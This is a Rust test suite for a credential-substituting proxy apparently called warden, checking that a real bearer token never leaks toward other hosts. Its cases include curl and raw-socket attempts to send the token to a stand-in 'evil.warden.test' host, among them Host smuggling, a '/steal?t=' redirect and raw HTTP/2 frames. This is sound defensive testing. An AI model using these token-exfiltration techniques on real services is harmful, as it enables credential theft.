//! The credential cases inside an intercepted connection: Host and target
//! that disagree with the CONNECT, the reverse (an opaque tunnel dressed as
//! the bound host), redirects, echoes of the header in every encoding,
//! pipelining, HTTP/2, plain HTTP, and a bound host that cannot prove itself.

use super::kit::{Judge, Secret, Server, Tls, call, policy};
use super::{c, control, controlled, evil_saw_placeholder, g, no_netns, python, ready};
use crate::{Case, Observed, Scene};

fn host_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let (a, e) = (api.port, evil.port);
    let pol = policy(a, &[g("api.warden.test", a), g("evil.warden.test", e)], &[], "40s");
    let body = format!(
        "def inside(raw):\n\
         \x20   return exchange(tls(tunnel('api.warden.test:{a}'), 'api.warden.test'), raw)\n\
         attempt('host_evil', lambda: inside(get('/raw', 'evil.warden.test:{e}')))\n\
         attempt('host_evil_bare', lambda: inside(get('/raw', 'evil.warden.test')))\n\
         attempt('absolute_evil', lambda: inside(f'GET https://evil.warden.test:{e}/raw HTTP/1.1\\r\\nHost: \
         api.warden.test:{a}\\r\\nAuthorization: Bearer {{PH}}\\r\\nConnection: close\\r\\n\\r\\n'.encode()))\n\
         attempt('two_hosts', lambda: inside(f'GET /raw HTTP/1.1\\r\\nHost: api.warden.test:{a}\\r\\nHost: \
         evil.warden.test:{e}\\r\\nAuthorization: Bearer {{PH}}\\r\\nConnection: close\\r\\n\\r\\n'.encode()))\n\
         import subprocess\n\
         r = subprocess.run(['curl', '-sS', '-m', '15', '-w', '\\ncode=%{{http_code}}', '-H', 'Host: evil.warden.test:{e}', \
         '-H', 'Authorization: Bearer ' + PH, 'https://api.warden.test:{a}/raw'], capture_output=True, text=True)\n\
         say('curl_host', r.stdout.strip().splitlines()[-1] if r.stdout.strip() else 'exit %d' % r.returncode)\n"
    );
    let call = python(s, "credential-host", pki, &secret, &pol, a, &body);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    j.placeholder(&call);
    j.line(&call, "host_evil", &["421 "]);
    j.line(&call, "host_evil_bare", &["421 "]);
    j.line(&call, "absolute_evil", &["421 "]);
    j.line(&call, "two_hosts", &["400 "]);
    j.line(&call, "curl_host", &["code=421"]);
    j.check(api.requests().is_empty(), format!("the bound server beyond the control: {}", api.summary()));
    j.check(evil.events().is_empty(), format!("evil: {}", evil.summary()));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

fn dressed_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let (a, e) = (api.port, evil.port);
    let pol = policy(a, &[g("api.warden.test", a), g("evil.warden.test", e)], &[], "40s");
    let body = format!(
        "attempt('evil_as_api', lambda: exchange(tls(tunnel('evil.warden.test:{e}'), 'api.warden.test', verify=False), \
         get('/raw', 'api.warden.test:{a}')))\n\
         import subprocess\n\
         r = subprocess.run(['curl', '-sS', '-k', '-m', '15', '--connect-to', 'api.warden.test:{a}:evil.warden.test:{e}', \
         '-H', 'Authorization: Bearer ' + PH, 'https://api.warden.test:{a}/raw'], capture_output=True, text=True)\n\
         say('curl_connect_to', 'exit %d placeholder echoed %d' % (r.returncode, r.stdout.count('Bearer ' + PH)))\n"
    );
    let call = python(s, "credential-dressed", pki, &secret, &pol, a, &body);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    j.line(&call, "evil_as_api", &["200 "]);
    j.line(&call, "curl_connect_to", &["exit 0 placeholder echoed 1"]);
    evil_saw_placeholder(&mut j, &evil, &ph);
    let attempts = call.attempts(e);
    let opaque = !attempts.is_empty() && attempts.iter().all(|x| x["intercepted"] != true);
    j.check(opaque, format!("the record: {} tunnel(s) to evil, none intercepted", attempts.len()));
    j.check(api.requests().is_empty(), format!("the bound server beyond the control: {}", api.summary()));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

fn redirect_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let api = Server::start(s, pki, Tls::Trusted, evil.port);
    let (a, e) = (api.port, evil.port);
    let pol = policy(a, &[g("api.warden.test", a), g("evil.warden.test", e)], &[], "40s");
    let get = |flags: &str| {
        format!(
            "$(curl -sS -m 15 {flags} -D - -H \"Authorization: Bearer $API_TOKEN\" https://api.warden.test:{a}/redirect \
             2>&1 | tr '\\r\\n' '  ')"
        )
    };
    let cmd = format!(
        "{}echo \"nofollow: {}\"\necho \"follow: {}\"\necho \"trusted: {}\"\n",
        control(a),
        get(""),
        get("-L"),
        get("--location-trusted")
    );
    let call = call(s, "credential-redirect", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    let location = format!("Location: https://evil.warden.test:{e}/steal?t=Bearer%20{ph}");
    j.check(
        call.run.out().contains("nofollow: HTTP/1.1 200 Connection Established    HTTP/1.1 302 Found"),
        "nofollow: 302",
    );
    j.check(call.run.out().matches(&location).count() >= 3, "each Location the tool saw names the placeholder");
    evil_saw_placeholder(&mut j, &evil, &ph);
    let trusted = evil.text().contains(&format!("Authorization: Bearer {ph}"));
    j.check(trusted, "--location-trusted sent the placeholder (not the value) on to evil");
    let n = api.requests().iter().filter(|r| r.contains(&format!("Bearer {}", secret.real))).count();
    j.check(n == 3, format!("the bound server got the real value in {n} of 3 redirecting requests"));
    let redacted: u64 = call.attempts(a).iter().map(|x| x["redacted"].as_u64().unwrap_or(0)).sum();
    j.check(redacted >= 3, format!("the record: {redacted} redaction(s) toward the bound host"));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

fn echo_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let a = api.port;
    let pol = policy(a, &[g("api.warden.test", a)], &[], "40s");
    let cmd = format!(
        "{}for p in raw json base64 chunked gzip; do\n\
         \x20 curl -sS -m 15 -H \"Authorization: Bearer $API_TOKEN\" https://api.warden.test:{a}/$p -o $p.out\n\
         done\n\
         curl -sS -m 15 --compressed -H \"Authorization: Bearer $API_TOKEN\" https://api.warden.test:{a}/gzip -o gzipc.out\n\
         n() {{ grep -c \"Bearer $API_TOKEN\"; }}\n\
         echo \"raw: $(n < raw.out)\"\n\
         echo \"json: $(n < json.out)\"\n\
         echo \"base64: $(base64 -d < base64.out | grep -a '^Authorization: ' | tr -d '\\r')\"\n\
         echo \"chunked: $(n < chunked.out)\"\n\
         echo \"gzip: $( (gzip -dc < gzip.out 2>/dev/null || cat gzip.out) | n)\"\n\
         echo \"gzip_compressed: $(n < gzipc.out)\"\n\
         cat *.out; base64 -d < base64.out; gzip -dc < gzip.out 2>/dev/null\n",
        control(a)
    );
    let call = call(s, "credential-echo", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&api], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    for name in ["raw", "json", "chunked", "gzip", "gzip_compressed"] {
        j.line(&call, name, &["1"]);
    }
    base64_edges(&mut j, &call, &secret, &ph);
    let n = api.requests().iter().filter(|r| r.contains(&format!("Bearer {}", secret.real))).count();
    j.check(n == 6, format!("the bound server got the real value in {n} of 6 echoed requests"));
    let redacted: u64 = call.attempts(a).iter().map(|x| x["redacted"].as_u64().unwrap_or(0)).sum();
    j.check(redacted >= 6, format!("the record: {redacted} redaction(s)"));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

/// The Authorization the tool decoded from the base64 echo, byte by byte
/// against the placeholder: warden replaces the base64 characters that
/// depend on the real value alone, so the edge characters, which mix a
/// neighbour's bits with the value's first or last byte, still carry a few
/// bits of it. Said (with how many bits), not judged an escape: the value and
/// its base64 never reach the tool; more than an edge byte would be.
fn base64_edges(j: &mut Judge<'_>, call: &super::kit::Call, secret: &Secret, ph: &str) {
    let out = call.run.out();
    let got = out.lines().find_map(|l| l.strip_prefix("base64: Authorization: Bearer ")).unwrap_or_default();
    let (got, ph, real) = (got.as_bytes(), ph.as_bytes(), secret.real.as_bytes());
    let differ: Vec<usize> = (0..ph.len()).filter(|&i| got.get(i) != ph.get(i)).collect();
    let edges = differ.iter().all(|&i| i == 0 || i + 1 == ph.len());
    // Bits of the tool's byte that agree with the real value where the placeholder's do not.
    let bits: u32 =
        differ.iter().filter_map(|&i| Some((!(got.get(i)? ^ real.get(i)?) & (got[i] ^ ph[i])).count_ones())).sum();
    let what = if differ.is_empty() {
        "base64: decoded, the tool sees exactly its placeholder".to_string()
    } else {
        format!(
            "base64: decoded, the tool sees its placeholder but for byte(s) {differ:?}, which mix the real value's \
             bits with the placeholder's (about {bits} bit(s) of the real value beyond what the placeholder shares)"
        )
    };
    j.check(got.len() == ph.len() && edges, what);
}

fn pipeline_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let (a, e) = (api.port, evil.port);
    let pol = policy(a, &[g("api.warden.test", a), g("evil.warden.test", e)], &[], "40s");
    let body = format!(
        "def two(second):\n\
         \x20   s = tls(tunnel('api.warden.test:{a}'), 'api.warden.test')\n\
         \x20   return exchange(s, get('/raw?first=1', 'api.warden.test:{a}', close=False) + second)\n\
         attempt('pipelined', lambda: two(get('/raw?second=1', 'evil.warden.test:{e}')))\n\
         attempt('pipelined_absolute', lambda: two(f'GET https://evil.warden.test:{e}/raw?second=1 HTTP/1.1\\r\\nHost: \
         api.warden.test:{a}\\r\\nAuthorization: Bearer {{PH}}\\r\\nConnection: close\\r\\n\\r\\n'.encode()))\n\
         attempt('pipelined_both', lambda: two(get('/raw?third=1', 'api.warden.test:{a}')))\n"
    );
    let call = python(s, "credential-pipeline", pki, &secret, &pol, a, &body);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    j.line(&call, "pipelined", &["200 421 "]);
    j.line(&call, "pipelined_absolute", &["200 421 "]);
    // The control of pipelining itself: two requests for the bound host are both served.
    j.line(&call, "pipelined_both", &["200 200 "]);
    let out = call.run.out();
    j.check(out.matches(&format!("Bearer {ph}")).count() >= 4, "the first answers echo the placeholder");
    let reqs = api.requests();
    let firsts = reqs.iter().filter(|r| r.contains("first=1") && r.contains(&secret.real)).count();
    j.check(firsts == 3, format!("the bound server got {firsts} of 3 first requests with the real value"));
    j.check(!reqs.iter().any(|r| r.contains("second=1")), "no second request (another Host) reached the bound server");
    j.check(reqs.iter().any(|r| r.contains("third=1")), "the bound second request did");
    j.check(evil.events().is_empty(), format!("evil: {}", evil.summary()));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

/// Raw HTTP/2 frames after the preface: SETTINGS, then HEADERS for `authority`
/// (HPACK literals, no Huffman), the placeholder as a bearer token.
const H2: &str = r#"def frame(t, flags, stream, payload):
    return len(payload).to_bytes(3, 'big') + bytes([t, flags]) + stream.to_bytes(4, 'big') + payload
def lit(k, v):
    return b'\x00' + bytes([len(k)]) + k.encode() + bytes([len(v)]) + v.encode()
def h2(authority):
    hdrs = lit(':method', 'GET') + lit(':scheme', 'https') + lit(':authority', authority) + lit(':path', '/raw') \
        + lit('authorization', 'Bearer ' + PH)
    return b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 5, 1, hdrs)
def answer_h2(s, raw):
    s.sendall(raw)
    s.settimeout(8)
    b = b''
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            b += d
    except OSError:
        pass
    return 'closed, %d bytes: %s' % (len(b), b[:200].decode('latin-1').replace('\r', ' ').replace('\n', ' '))
"#;

fn http2_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let (a, e) = (api.port, evil.port);
    let pol = policy(a, &[g("api.warden.test", a), g("evil.warden.test", e)], &[], "40s");
    let body = format!(
        "{H2}import subprocess\n\
         def curl(flag):\n\
         \x20   r = subprocess.run(['curl', '-sS', '-m', '15', flag, '-w', '\\nversion=%{{http_version}} code=%{{http_code}}', \
         '-H', 'Authorization: Bearer ' + PH, 'https://api.warden.test:{a}/raw?h2=' + flag], capture_output=True, text=True)\n\
         \x20   return 'exit %d %s echoed %d' % (r.returncode, r.stdout.strip().splitlines()[-1] if r.stdout.strip() else \
         r.stderr.strip()[-100:], r.stdout.count('Bearer ' + PH))\n\
         say('curl_http2', curl('--http2'))\n\
         say('curl_prior', curl('--http2-prior-knowledge'))\n\
         attempt('alpn_h2_only', lambda: tls(tunnel('api.warden.test:{a}'), 'api.warden.test', ['h2']).selected_alpn_protocol())\n\
         attempt('alpn_offered', lambda: tls(tunnel('api.warden.test:{a}'), 'api.warden.test', ['h2', 'http/1.1']).selected_alpn_protocol())\n\
         attempt('preface_evil', lambda: answer_h2(tls(tunnel('api.warden.test:{a}'), 'api.warden.test'), h2('evil.warden.test:{e}')))\n\
         attempt('preface_api', lambda: answer_h2(tls(tunnel('api.warden.test:{a}'), 'api.warden.test'), h2('api.warden.test:{a}')))\n"
    );
    let call = python(s, "credential-http2", pki, &secret, &pol, a, &body);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    j.placeholder(&call);
    j.line(&call, "curl_http2", &["exit 0 version=1.1 code=200 echoed 1"]);
    // Prior knowledge over TLS: refused (an error, or warden's 501), or curl falls back to HTTP/1.1 by ALPN.
    j.line(
        &call,
        "curl_prior",
        &["exit 16", "exit 56", "exit 92", "exit 0 version=2 code=501", "exit 0 version=1.1 code=200 echoed 1"],
    );
    j.line(&call, "alpn_h2_only", &["failed SSLError", "None"]);
    j.line(&call, "alpn_offered", &["http/1.1"]);
    j.line(&call, "preface_evil", &["closed"]);
    j.line(&call, "preface_api", &["closed"]);
    let out = call.run.out();
    let answered =
        out.lines().filter(|l| l.starts_with("preface_")).any(|l| l.contains(" 200 ") || l.contains("Bearer"));
    j.check(!answered, "neither HTTP/2 preface was answered as a request");
    let reqs = api.requests();
    j.check(!reqs.iter().any(|r| r.starts_with("PRI")), "no HTTP/2 preface reached the bound server");
    j.check(
        reqs.iter().any(|r| r.contains("h2=--http2 ") && r.contains(&secret.real)),
        "curl --http2 worked over HTTP/1.1 with the real value substituted",
    );
    j.check(evil.events().is_empty(), format!("evil: {}", evil.summary()));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

fn plain_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let plain = Server::start(s, pki, Tls::Plain, 0);
    let p = plain.port;
    let pol = policy(p, &[g("api.warden.test", p)], &[], "30s");
    let cmd = format!(
        "echo \"PH=$API_TOKEN\"\n\
         echo \"plain: $(curl -sS -m 15 -H \"Authorization: Bearer $API_TOKEN\" \"http://api.warden.test:{p}/raw?t=$API_TOKEN\" \
         2>&1 | grep -c \"Bearer $API_TOKEN\")\"\n\
         echo \"tunnelled: $(curl -sS -m 15 -p -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" \
         http://api.warden.test:{p}/raw 2>&1 | tr '\\n' ' ')\"\n"
    );
    let call = call(s, "credential-plain", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&plain], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    // Forwarded as plain HTTP, the placeholder unchanged: the server echoes it back.
    j.line(&call, "plain", &["1"]);
    j.line(&call, "tunnelled", &["000", "curl: ("]);
    let text = plain.text();
    j.check(
        text.contains(&format!("Bearer {ph}")),
        format!("the plain server got the placeholder ({})", plain.summary()),
    );
    j.clean("the plain server", &text);
    let (subst, mis) = (call.used(p, "substituted"), call.used(p, "misdirected"));
    j.check(subst == 0 && mis >= 1, format!("the record: substituted {subst}, misdirected {mis}"));
    j.clean_call(&call);
    j.done(&call)
}

fn unverified_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let rogue = Server::start(s, pki, Tls::Rogue, 0);
    let r = rogue.port;
    let pol = policy(r, &[g("api.warden.test", r)], &[], "30s");
    let cmd = format!(
        "echo \"PH=$API_TOKEN\"\n\
         echo \"rogue: $(curl -sS -m 15 -w ' code=%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" \
         https://api.warden.test:{r}/raw 2>&1 | tr '\\n' ' ')\"\n"
    );
    let call = call(s, "credential-unverified", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&rogue], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    j.placeholder(&call);
    let out = call.run.out();
    j.check(
        out.contains("code=502"),
        "the tool got 502 from warden (its TLS to warden held; warden's to the server did not)",
    );
    let heads = rogue.events().iter().filter(|e| e["event"] == "request" || e["event"] == "rest").count();
    j.check(heads == 0, format!("the unverified server: {}", rogue.summary()));
    j.clean("the unverified server", &rogue.text());
    let intercepted = call.attempts(r).iter().any(|x| x["intercepted"] == true);
    let subst = call.used(r, "substituted");
    j.check(intercepted && subst == 0, format!("the record: intercepted {intercepted}, substituted {subst}"));
    j.clean_call(&call);
    j.done(&call)
}

pub(super) fn cases() -> Vec<Case> {
    vec![
        c(
            "credential-host/process",
            "inside the intercepted tunnel to api.warden.test: Host evil.warden.test (with and without port), an \
             absolute URL to evil, two Host headers, curl -H 'Host: evil…'",
            "421 for each other host (400 for two Hosts); the bound server receives none of them, evil nothing",
            host_case,
        ),
        c(
            "credential-dressed/process",
            "CONNECT evil.warden.test (granted, not bound) with SNI and Host api.warden.test (python; curl \
             --connect-to api…:evil…)",
            "an opaque tunnel: evil receives the placeholder only; the record shows it not intercepted",
            dressed_case,
        ),
        c(
            "credential-redirect/process",
            "the bound server answers 302 to evil.warden.test with the Authorization it got in the query (and in \
             Refresh and the body); curl without -L, with -L, with --location-trusted",
            "the Location the tool sees names the placeholder; evil receives the placeholder only",
            redirect_case,
        ),
        c(
            "credential-echo/process",
            "the bound server echoes the Authorization it got: raw, JSON, base64, chunked, gzip (with and without \
             --compressed)",
            "the tool sees its placeholder in each (decoded), never the value; the record counts the redactions",
            echo_case,
        ),
        c(
            "credential-pipeline/process",
            "two requests in one write inside the intercepted tunnel, the second for evil.warden.test (Host, then \
             absolute URL); control: both for the bound host",
            "the first answered (value substituted), the second 421 and never sent; evil nothing",
            pipeline_case,
        ),
        c(
            "credential-http2/process",
            "curl --http2 and --http2-prior-knowledge to the bound host; ALPN h2 only; a raw HTTP/2 preface with \
             :authority evil.warden.test and with the bound host",
            "--http2 works over HTTP/1.1; h2 refused (ALPN http/1.1 only, the preface refused); no preface reaches \
             the server, nothing reaches evil",
            http2_case,
        ),
        c(
            "credential-plain/process",
            "plain http:// to the bound name and port (forwarded, and CONNECT with plain HTTP inside)",
            "the placeholder is never substituted in plain HTTP (the server echoes the placeholder); the record \
             counts it misdirected; the CONNECT carrying plain HTTP fails",
            plain_case,
        ),
        c(
            "credential-unverified/process",
            "the bound host's server presents a self-signed certificate warden's trust store does not hold",
            "502 to the tool; the server receives no request head; nothing substituted",
            unverified_case,
        ),
    ]
}
